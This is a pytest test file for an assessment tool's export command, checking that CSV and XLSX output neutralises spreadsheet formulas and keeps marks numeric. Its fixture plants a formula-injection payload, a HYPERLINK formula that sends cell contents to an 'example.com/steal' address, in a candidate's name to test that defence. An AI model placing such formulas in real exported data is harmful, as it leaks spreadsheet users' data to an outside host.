"""`csassess export`: one row per candidate as CSV, XLSX or JSON, numbers numeric, formulas defused."""

from __future__ import annotations

import csv
import json

import openpyxl
import pytest

from csassess.batch.run import mark_batch
from csassess.interop.export import neutralise
from csassess.store import Store

EVIL = '=HYPERLINK("http://example.com/steal?"&A1,"Click me")'


@pytest.fixture
def evil_db(frozen, examples, tmp_path):
    """The examples marked, with one candidate whose name is a spreadsheet formula."""
    path = examples / "0001-strong-all-round.json"
    script = json.loads(path.read_text(encoding="utf-8"))
    script["candidate"]["name"] = EVIL
    path.write_text(json.dumps(script), encoding="utf-8")
    db = tmp_path / "r.db"
    with Store(db) as store:
        mark_batch(store, frozen, [examples], workers=0)
    return db


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Zoë Smith", "Zoë Smith"),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise(value, safe):
    """Text that a spreadsheet would run as a formula gets a leading apostrophe; numbers stay numbers."""
    assert neutralise(value) == safe


def test_csv_export(invoke, evil_db, tmp_path):
    """CSV: a header, one row per candidate, marks as plain numbers, the formula name neutralised."""
    out = tmp_path / "results.csv"
    result = invoke("export", "--db", evil_db, "--out", out)
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == f"Exported 50 candidates -> {out}"
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 50
    first = rows[0]
    assert first["name"] == "'" + EVIL
    assert first["CS-FND-MC-002"] == "1"
    assert int(first["total"]) == sum(int(first[q]) for q in list(first)[5:35])
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_xlsx_export(invoke, evil_db, tmp_path):
    """XLSX: marks and totals are numeric cells, and the formula name is stored as text."""
    out = tmp_path / "results.xlsx"
    result = invoke("export", "--db", evil_db, "--out", out)
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    first = list(sheet[2])
    assert sheet.max_row == 51
    assert first[header.index("name")].value == "'" + EVIL
    assert first[header.index("name")].data_type == "s"
    assert isinstance(first[header.index("total")].value, int)
    assert isinstance(first[header.index("CS-FND-ER-003")].value, int)


def test_json_export(invoke, evil_db, tmp_path):
    """JSON keeps every value exactly (it is data, not a spreadsheet), marks as numbers."""
    out = tmp_path / "results.json"
    result = invoke("export", "--db", evil_db, "--out", out)
    assert result.exit_code == 0, result.output
    candidates = json.loads(out.read_text(encoding="utf-8"))["candidates"]
    assert len(candidates) == 50
    first = candidates[0]
    assert first["name"] == EVIL
    assert first["total"] == sum(first["marks"].values())
    assert all(isinstance(m, int) for m in first["marks"].values())


def test_unknown_format_is_refused(invoke, evil_db, tmp_path):
    """An output name without .csv, .xlsx or .json is a usage error (exit 2), and nothing is written."""
    out = tmp_path / "results.txt"
    result = invoke("export", "--db", evil_db, "--out", out)
    assert result.exit_code == 2
    assert (
        result.stderr.strip() == f"Error: {out}: cannot tell the format; name the file .csv, .xlsx or .json"
    )
    assert not out.exists()
